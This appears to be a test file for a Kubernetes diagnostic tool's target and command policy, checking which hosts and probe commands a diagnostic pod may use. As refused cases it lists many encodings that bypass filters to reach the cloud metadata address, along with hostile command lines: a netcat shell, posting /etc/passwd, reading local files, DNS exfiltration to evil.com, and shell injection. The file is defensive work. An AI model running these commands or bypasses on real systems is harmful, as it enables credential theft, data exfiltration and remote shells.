import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { isRefusal } from '../../../src/errors.ts';
import { isPlainIpv4, NEVER_TARGETS, reachOf } from '../../../src/policy/preapproved/addresses.ts';
import { PROBES, readProbe } from '../../../src/policy/preapproved/probe.ts';
import { refuseTarget } from '../../../src/policy/preapproved/targets.ts';
import { PREAPPROVED, preapprovedUnder } from './settings.ts';

const EXTERNAL = preapprovedUnder({ KUBECTL_DIAGNOSTIC_ALLOW_EXTERNAL_TARGETS: 'true' });
const FREE = preapprovedUnder({ KUBECTL_DIAGNOSTIC_TARGET_POLICY_ENABLED: 'false' });
const says = (host: string, settings = PREAPPROVED) => refuseTarget(host, host, settings)?.code ?? 'allowed';
const codeOf = (line: string, settings = PREAPPROVED) => {
  const probed = readProbe(line.split(' '), settings);
  return isRefusal(probed) ? probed.code : 'allowed';
};

describe('where an address leads', () => {
  test.each<[string, string]>([
    ['10.0.0.1', 'inside'],
    ['172.31.255.255', 'inside'],
    ['192.168.1.1', 'inside'],
    ['fd12::1', 'inside'],
    ['172.32.0.1', 'outside'],
    ['8.8.8.8', 'outside'],
    ['100.64.0.1', 'outside'],
    ['198.18.0.1', 'outside'],
    ['2001:db8::1', 'outside'],
    ['169.254.169.254', '169.254.0.0/16'],
    ['127.0.0.1', '127.0.0.0/8'],
    ['0.0.0.0', '0.0.0.0/8'],
    ['0', '0.0.0.0/8'],
    ['2852039166', '169.254.0.0/16'],
    ['0xa9fea9fe', '169.254.0.0/16'],
    ['0251.0376.0251.0376', '169.254.0.0/16'],
    ['169.254.43518', '169.254.0.0/16'],
    ['169.16689662', '169.254.0.0/16'],
    ['0xA9.254.0xa9.254', '169.254.0.0/16'],
    ['169.254.169.254.', '169.254.0.0/16'],
    ['::ffff:169.254.169.254', '169.254.0.0/16'],
    ['::ffff:a9fe:a9fe', '169.254.0.0/16'],
    ['0:0:0:0:0:ffff:a9fe:a9fe', '169.254.0.0/16'],
    ['64:ff9b::a9fe:a9fe', '169.254.0.0/16'],
    ['2002:a9fe:a9fe::', '169.254.0.0/16'],
    ['::a9fe:a9fe', '169.254.0.0/16'],
    ['::1', '::1/128'],
    ['::', '::/128'],
    ['fe80::1', 'fe80::/10'],
    ['fd00:ec2::254', 'fd00:ec2::254/128'],
    ['fd20:ce::254', 'fd20:ce::254/128'],
    ['::ffff:10.0.0.1', 'inside'],
    ['64:ff9b::808:808', 'outside'],
    ['100.100.100.200', '100.100.100.200/32'],
    ['168.63.129.16', '168.63.129.16/32'],
    ['192.0.0.192', '192.0.0.192/32'],
    ['255.255.255.255', '240.0.0.0/4'],
    ['１６９.254.169.254', '169.254.0.0/16'],
    ['169。254。169。254', '169.254.0.0/16'],
  ])('%s: %s', (text, where) => {
    const reach = reachOf(text);
    expect(typeof reach === 'object' ? reach.never.cidr : reach).toBe(where);
  });

  test.each(['web', 'a.b', '', ' ', '10.0.0', '1.2.3.4.5', '256.1.1.1', '10.0.0.1/8', 'fe80::1%eth0', ':::', 'x:y'])(
    '%j is no address, or one that is read as another',
    (text) => {
      const reach = reachOf(text);
      if (reach !== undefined) expect(says(text)).toBe('TARGET_NOT_ALLOWED');
    },
  );

  test('an address is found in every form of its number', () => {
    const parts = fc.tuple(fc.nat(255), fc.nat(255), fc.nat(255), fc.nat(255));
    fc.assert(
      fc.property(parts, ([a, b, c, d]) => {
        const number = a * 2 ** 24 + b * 2 ** 16 + c * 256 + d;
        const plain = `${a}.${b}.${c}.${d}`;
        expect(isPlainIpv4(plain)).toBe(true);
        const forms = [
          String(number),
          `0x${number.toString(16)}`,
          `0${a.toString(8)}.${b}.${c}.${d}`,
          `${a}.${b * 65536 + c * 256 + d}`,
          `::ffff:${plain}`,
        ];
        for (const form of forms) {
          expect(reachOf(form)).toEqual(reachOf(plain));
          // Only one form is ever taken, so that no program reads it in another way.
          if (form !== plain && !form.includes(':') && form !== `${a}.${b}.${c}.${d}` && !isPlainIpv4(form))
            expect(says(form, EXTERNAL)).toBe('TARGET_NOT_ALLOWED');
        }
      }),
    );
  });

  test('no range of what is never a target can be allowed', () => {
    for (const { cidr } of NEVER_TARGETS) expect(says(cidr.split('/')[0] ?? '', EXTERNAL)).toBe('TARGET_NOT_ALLOWED');
  });
});

describe('a host', () => {
  test.each([
    'web',
    'web.shop.svc',
    'web.shop.svc.cluster.local',
    'web.shop.svc.cluster.local.',
    'WEB.shop.SVC',
    '10-0-0-1.shop.pod.cluster.local',
    '10.96.0.1',
    'fd12::1',
  ])('%s is inside', (host) => {
    expect(says(host)).toBe('allowed');
  });

  test.each([
    ['example.com', 'not a recognised cluster-internal name'],
    ['web.shop', 'not a recognised cluster-internal name'],
    ['169.254.169.254.nip.io', 'not a recognised cluster-internal name'],
    ['evil.com.svc.cluster.local.evil.com', 'not a recognised cluster-internal name'],
    ['metadata', 'cloud metadata endpoint'],
    ['METADATA.google.internal.', 'cloud metadata endpoint'],
    ['metadata.azure.internal', 'cloud metadata endpoint'],
    ['instance-data.ec2.internal', 'cloud metadata endpoint'],
    ['localhost', 'the pod itself'],
    ['a.localhost', 'the pod itself'],
    ['web_1.svc', 'neither an address nor the name'],
    ['-web.svc', 'neither an address nor the name'],
    ['web..svc', 'neither an address nor the name'],
    ['wéb.svc', 'neither an address nor the name'],
    ['%31%36%39.254.169.254', 'neither an address nor the name'],
    ['8.8.8.8', 'outside the cluster'],
    ['2852039166', 'inside 169.254.0.0/16'],
    ['167772161', 'in a form that programs read'],
    ['010.0.0.1', 'outside|form'],
  ])('%s is refused: %s', (host, words) => {
    expect(refuseTarget(host, host, PREAPPROVED)).toMatchObject({
      code: 'TARGET_NOT_ALLOWED',
      error: expect.stringMatching(words),
      hint: expect.stringMatching(/\S/),
    });
  });

  test('outside is allowed where the operator says so', () => {
    expect(says('example.com', EXTERNAL)).toBe('allowed');
    expect(says('8.8.8.8', EXTERNAL)).toBe('allowed');
    expect(says('metadata.google.internal', EXTERNAL)).toBe('TARGET_NOT_ALLOWED');
  });
});

describe('the words of a diagnostic pod', () => {
  test.each(Object.entries(PROBES).map(([name, { example }]) => [name, example.join(' ')]))(
    'the example of %s may run: %s',
    (_, line) => {
      expect(codeOf(line)).toBe('allowed');
    },
  );

  test.each([
    'curl -sS -m 5 http://web.shop.svc:8080/healthz?a=b',
    'curl -vk https://10.0.0.1:6443/healthz',
    'curl -s -o /dev/null -w %{http_code} http://web',
    'curl -I http://[fd12::1]:80/',
    'curl web.shop.svc:80/path',
    'nslookup web 10.96.0.10',
    'dig +short @10.96.0.10 web.shop.svc.cluster.local A',
    'nc -zv web 80 443',
    'ping -c 1 10.0.0.1',
  ])('%s may run', (line) => {
    expect(codeOf(line)).toBe('allowed');
  });

  test.each<[string, string]>([
    ['curl http://169.254.169.254/latest', 'TARGET_NOT_ALLOWED'],
    ['curl 169.254.169.254/latest', 'TARGET_NOT_ALLOWED'],
    ['curl http:169.254.169.254', 'ARGUMENT_NOT_ALLOWED'],
    ['curl http:/169.254.169.254', 'ARGUMENT_NOT_ALLOWED'],
    ['curl http://2852039166/', 'TARGET_NOT_ALLOWED'],
    ['curl http://0xa9fea9fe/', 'TARGET_NOT_ALLOWED'],
    ['curl http://[::ffff:169.254.169.254]/', 'TARGET_NOT_ALLOWED'],
    ['curl http://web@169.254.169.254/', 'ARGUMENT_NOT_ALLOWED'],
    ['curl http://169.254.169.254@web/', 'ARGUMENT_NOT_ALLOWED'],
    ['curl http://web#@169.254.169.254/', 'ARGUMENT_NOT_ALLOWED'],
    ['curl http://169.254.169.{254}/', 'ARGUMENT_NOT_ALLOWED'],
    ['curl http://169.254.169.[250-254]/', 'ARGUMENT_NOT_ALLOWED'],
    ['curl http://%31%36%39.254.169.254/', 'ARGUMENT_NOT_ALLOWED'],
    ['curl file:///etc/passwd', 'ARGUMENT_NOT_ALLOWED'],
    ['curl gopher://web/', 'ARGUMENT_NOT_ALLOWED'],
    ['curl --url=http://169.254.169.254/', 'TARGET_NOT_ALLOWED'],
    ['curl --url http://169.254.169.254/', 'TARGET_NOT_ALLOWED'],
    ['curl http://web http://169.254.169.254', 'TARGET_NOT_ALLOWED'],
    ['curl -L http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl -sSL http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl --location http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl --locat http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl --location-trusted http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl -x evil:80 http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl -x169.254.169.254 http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl --proxy=http://169.254.169.254 http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl --resolve web:80:169.254.169.254 http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl --connect-to ::169.254.169.254: http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl -K /tmp/x', 'ARGUMENT_NOT_ALLOWED'],
    ['curl -o /tmp/x http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl -X DELETE http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl -d a=b http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl -H @/etc/passwd http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['curl http://localhost:10255/pods', 'TARGET_NOT_ALLOWED'],
    ['curl http://example.com', 'TARGET_NOT_ALLOWED'],
    ['wget http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['wget --max-redirect=5 http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['wget --max-redirect=0 --post-file=/etc/passwd http://web', 'ARGUMENT_NOT_ALLOWED'],
    ['nslookup secret.evil.com', 'TARGET_NOT_ALLOWED'],
    ['nslookup web 8.8.8.8', 'TARGET_NOT_ALLOWED'],
    ['dig @8.8.8.8 web', 'TARGET_NOT_ALLOWED'],
    ['dig -f /etc/passwd', 'ARGUMENT_NOT_ALLOWED'],
    ['nc web 80', 'ARGUMENT_NOT_ALLOWED'],
    ['nc -z 2852039166 80', 'TARGET_NOT_ALLOWED'],
    ['nc -e sh web 80', 'ARGUMENT_NOT_ALLOWED'],
    ['nc -l 80', 'ARGUMENT_NOT_ALLOWED'],
    ['ping web', 'ARGUMENT_NOT_ALLOWED'],
    ['openssl s_client -connect 169.254.169.254:443', 'TARGET_NOT_ALLOWED'],
    ['openssl enc -in /etc/passwd', 'ARGUMENT_NOT_ALLOWED'],
    ['sh -c id', 'PROGRAM_NOT_ALLOWED'],
    ['/usr/bin/curl -L http://web', 'PROGRAM_NOT_ALLOWED'],
    ['env', 'PROGRAM_NOT_ALLOWED'],
    ['constructor', 'PROGRAM_NOT_ALLOWED'],
    ['curl http://web/;id', 'METACHARACTER'],
  ])('%s: %s', (line, code) => {
    expect(codeOf(line)).toBe(code);
  });

  test('without the target policy any program may run, and no metadata address is ever reached', () => {
    expect(codeOf('sh -c id', FREE)).toBe('allowed');
    expect(codeOf('curl -L http://example.com', FREE)).toBe('allowed');
    for (const line of [
      'curl http://169.254.169.254/',
      'curl --resolve=web:80:169.254.169.254 web',
      'x a=2852039166',
      'curl http://a@169.254.169.254/',
      'curl metadata.google.internal',
    ])
      expect([line, codeOf(line, FREE)]).toEqual([line, 'TARGET_NOT_ALLOWED']);
  });

  test('no words make it throw, and what may run names no host that is refused', () => {
    const anyWord = fc.oneof(
      fc.constantFrom(
        '169.254.169.254',
        'http://169.254.169.254',
        'http://web',
        'web',
        '-L',
        '-z',
        '-c',
        '80',
        '--',
        '@8.8.8.8',
        'evil.com',
        '-o',
        '-',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.constantFrom(...Object.keys(PROBES)), fc.array(anyWord, { maxLength: 5 }), (name, words) => {
        const probed = readProbe([name, ...words], PREAPPROVED);
        if (isRefusal(probed)) return;
        for (const host of probed.hosts) expect(refuseTarget(host, host, PREAPPROVED)).toBeUndefined();
        if (name !== 'echo') expect(words.join(' ')).not.toMatch(/169\.254|evil|8\.8\.8\.8/);
      }),
      { numRuns: 3000 },
    );
  });
});
